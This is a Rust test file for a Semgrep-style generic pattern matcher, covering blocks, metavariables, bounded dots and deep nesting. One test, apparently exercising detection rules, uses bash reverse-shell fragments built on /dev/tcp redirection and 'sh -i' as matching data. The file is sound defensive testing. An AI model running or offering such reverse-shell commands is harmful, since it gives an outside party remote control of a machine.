//! What patterns of the `generic` target match; the cases were compared with Semgrep's own answers.

use super::*;
use crate::rule::{CommentStyle, Options};

#[track_caller]
fn check(pattern: &str, text: &str, expected: &[&str]) {
    let items = read(text, CommentStyle::None);
    let document = Document { text, items: &items };
    let options = Options::default().generic;
    let found = find(&GenericPattern::new(pattern), document, &options, &mut 100_000);
    let found: Vec<_> = found.into_iter().map(|hit| &text[hit.range]).collect();
    assert_eq!(found, expected, "{pattern}");
}

#[test]
fn blocks_of_the_pattern_are_whole_blocks_of_the_text() {
    check("f(x)", "f(x, y)\nf(x)\nf(\n  x\n)\n", &["f(x)", "f(\n  x\n)"]);
    check("a:\n  b: 1\n", "a:\n  b: 1\n  c: 2\na:\n  b: 1\n", &["a:\n  b: 1"]);
    check("f(...)", "f(a, (b)) f()", &["f(a, (b))", "f()"]);
}

#[test]
fn blocks_of_the_text_are_looked_through() {
    check("c d e", "c\n  d\ne\n", &["c\n  d\ne"]);
    check("g ... h", "g 1\n  2 h\n3\ng\n  5\nh\n", &["g 1\n  2 h", "g\n  5\nh"]);
}

#[test]
fn a_metavariable_is_one_word() {
    check("key = $X", "key = abc-def\nkey = \"abc\"\n", &["key = abc"]);
    check("$X == $X", "a == b == b", &["b == b"]);
}

#[test]
fn dots_span_a_bounded_number_of_lines() {
    let far = format!("g\n{}h\n", "x\n".repeat(10));
    check("g ... h", &far, &[]);
    let near = format!("g\n{}h\n", "x\n".repeat(9));
    check("g ... h", &near, &[near.trim_end()]);
    check("k = $...X;", "k = 1 2 3; 4;", &["k = 1 2 3;"]);
    check("g ...", "g 1\n2\n", &["g 1\n2"]);
}

#[test]
fn of_matches_with_one_end_one_counts() {
    check("a ... b", "a 1\na 2\nb 3\nb 4\n", &["a 2\nb"]);
    check("$X ... b", "a 1\na 2\nb 3\nb 4\n", &["2\nb", "3\nb"]);
    check("a ...", "a 1\na 2\nb 3\n", &["a 1\na 2\nb 3"]);
}

#[test]
fn signs_of_a_shell_are_tokens_like_others() {
    check(
        "<...>/dev/tcp/.../...; cat <&... | while read line",
        "exec 5<>/dev/tcp/10.1/90;cat <&5 | while read line; do",
        &["<>/dev/tcp/10.1/90;cat <&5 | while read line"],
    );
    check("do $line 2>&... >&...;done", "do $line 2>&5 >&5; done", &["do $line 2>&5 >&5; done"]);
    check("sh -i ...<...> /dev/...", "sh -i 5<> /dev/tcp", &["sh -i 5<> /dev/tcp"]);
}

#[test]
fn comments_are_left_out_on_demand() {
    let text = "a # x\nb";
    let items = read(text, CommentStyle::Shell);
    let document = Document { text, items: &items };
    let found = find(&GenericPattern::new("a b"), document, &Options::default().generic, &mut 1000);
    assert_eq!(found.len(), 1);
}

#[test]
fn deep_nesting_and_many_dots_end() {
    let text = format!("{}{}", "(".repeat(5000), ")".repeat(5000));
    let items = read(&text, CommentStyle::None);
    let document = Document { text: &text, items: &items };
    let pattern = GenericPattern::new(&"... ( ".repeat(200));
    let mut steps = 50_000;
    find(&pattern, document, &Options::default().generic, &mut steps);
    assert!(GenericPattern::new(&text).words().is_empty());
}
